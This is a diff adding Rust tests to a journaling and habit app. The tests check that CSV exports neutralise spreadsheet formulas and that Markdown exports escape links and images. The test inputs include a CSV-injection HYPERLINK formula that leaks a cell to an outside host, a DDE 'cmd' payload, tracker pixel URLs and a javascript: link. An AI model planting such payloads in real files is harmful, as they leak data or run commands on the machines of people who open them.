@@ -964,3 +964,147 @@ fn export_and_backup_never_write_over_the_database_or_its_companions() {
     assert!(err.contains("is the database itself"), "{err}");
     assert!(!fresh.db.exists());
 }
+
+/// What a spreadsheet runs as a formula when a cell starts with it (OWASP,
+/// "CSV Injection").
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// The reading documented in docs/data.md, written here from the docs:
+/// a cell of one or more `'` followed by a formula start lost one `'`.
+fn unguarded(cell: &str) -> String {
+    let after = cell.trim_start_matches('\'');
+    if cell.starts_with('\'') && after.starts_with(FORMULA_STARTS) {
+        cell[1..].to_string()
+    } else {
+        cell.to_string()
+    }
+}
+
+#[test]
+fn csv_cells_never_start_a_formula_and_read_back_exactly() {
+    let env = Env::new();
+    history(&env);
+    // Words that start like formulas, brought in through afterglow's own
+    // JSON, which keeps them exactly (typed words lose their outer spaces).
+    let mut export = env.json(&["export"]);
+    let texts = [
+        "=HYPERLINK(\"http://example.com/?leak=\"&A1,\"click\")",
+        "+SUM(1+1)*cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1)",
+        "\t=1+1",
+        "\r=1+1",
+        "'=already quoted",
+        "''+twice",
+        "'plain quote",
+    ];
+    let journal = export["journal"].as_array_mut().unwrap();
+    let template = journal[0].clone();
+    journal.clear();
+    for (i, text) in texts.iter().enumerate() {
+        let mut e = template.clone();
+        e["id"] = serde_json::json!(100 + i);
+        e["body"] = serde_json::json!(text);
+        journal.push(e);
+    }
+    export["sessions"][1]["note"] = serde_json::json!("=1+1");
+    export["therapy"][0]["note"] = serde_json::json!("@A1");
+    export["intentions"][0]["text"] = serde_json::json!("-1");
+    export["habits"][0]["name"] = serde_json::json!("=1+1");
+    let file = env.dir.path().join("formulas.json");
+    fs::write(&file, export.to_string()).unwrap();
+    let other = Env::new();
+    other.ok(&["import", "--from", "afterglow", file.to_str().unwrap()]);
+    let stored = other.json(&["export"]);
+
+    let dir = other.dir.path().join("csv");
+    other.ok(&["export", "--format", "csv", "--out", dir.to_str().unwrap()]);
+    for name in CSV_FILES {
+        let path = dir.join(name);
+        let mut r = ::csv::Reader::from_path(&path).unwrap();
+        for record in r.records() {
+            for cell in record.unwrap().iter() {
+                assert!(
+                    !cell.starts_with(FORMULA_STARTS),
+                    "{name}: a cell starts a formula: {cell:?}"
+                );
+            }
+        }
+    }
+    // The prefixed cells are quoted, as OWASP advises.
+    let raw = fs::read_to_string(dir.join("journal.csv")).unwrap();
+    assert!(raw.contains(",\"'=HYPERLINK("), "{raw}");
+    assert!(raw.contains(",\"'-2+3\"\r\n"), "{raw}");
+    assert!(raw.contains(",\"''=already quoted\"\r\n"), "{raw}");
+    assert!(raw.contains(",'plain quote\r\n"), "{raw}");
+
+    // Undoing exactly the added quote gives back every stored word.
+    let bodies: BTreeSet<String> = read_csv(&dir.join("journal.csv"))
+        .iter()
+        .map(|row| unguarded(&row["body"]))
+        .collect();
+    let want: BTreeSet<String> = stored["journal"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|e| e["body"].as_str().unwrap().to_string())
+        .collect();
+    assert_eq!(bodies, want);
+    assert_eq!(want, texts.iter().map(|t| t.to_string()).collect());
+    let habits = read_csv(&dir.join("habits.csv"));
+    assert!(habits.iter().any(|h| h["name"] == "'=1+1"), "{habits:?}");
+    let ticks = read_csv(&dir.join("habit_ticks.csv"));
+    assert!(ticks.iter().all(|t| !t["habit"].starts_with('=')));
+    assert_eq!(
+        unguarded(&read_csv(&dir.join("sessions.csv"))[1]["note"]),
+        "=1+1"
+    );
+    assert_eq!(
+        unguarded(&read_csv(&dir.join("therapy.csv"))[0]["note"]),
+        "@A1"
+    );
+    assert_eq!(
+        unguarded(&read_csv(&dir.join("intentions.csv"))[0]["text"]),
+        "-1"
+    );
+}
+
+#[test]
+fn links_and_images_in_notes_show_as_text_in_the_report() {
+    let env = Env::new();
+    let image = "![](http://tracker.example/pixel.png?who=me)";
+    let link = "[click me](javascript:alert(1))";
+    let reference = "[see][r] and [r]\n[r]: http://tracker.example/ref.png";
+    let auto = "<http://auto.example/> <img src=http://tracker.example/i.png>";
+    env.ok(&["session", "log", "--at", &rfc(days_ago(2)), "--note", image]);
+    env.ok(&["therapy", "log", "--at", &rfc(days_ago(1)), "--note", link]);
+    env.ok(&[
+        "journal",
+        "add",
+        &format!("{image}\n{link}\n{reference}\n{auto}"),
+    ]);
+    env.ok(&["intention", "set", link]);
+    env.ok(&["habit", "add", "![x](http://t.example/h.png)"]);
+    env.ok(&["habit", "tick", "![x](http://t.example/h.png)"]);
+    let md = env.ok(&["export", "--format", "md"]);
+    // No inline link or image, no link definition, no autolink, no tag:
+    // a viewer has nothing to fetch or to follow.
+    for live in ["](", "]:"] {
+        assert!(!md.contains(live), "{live:?} is live in:\n{md}");
+    }
+    for tag in ["<http", "<img"] {
+        for (at, _) in md.match_indices(tag) {
+            assert!(md[..at].ends_with('\\'), "{tag:?} is live in:\n{md}");
+        }
+    }
+    // Every word is still there, escaped so that it shows as typed.
+    for shown in [
+        "![]\\(http://tracker.example/pixel.png?who=me)",
+        "[click me]\\(javascript:alert(1))",
+        "[r]\\: http://tracker.example/ref.png",
+        "\\<http://auto.example/>",
+        "| ![x]\\(http://t.example/h.png) |",
+    ] {
+        assert!(md.contains(shown), "{shown:?} is missing from:\n{md}");
+    }
+}
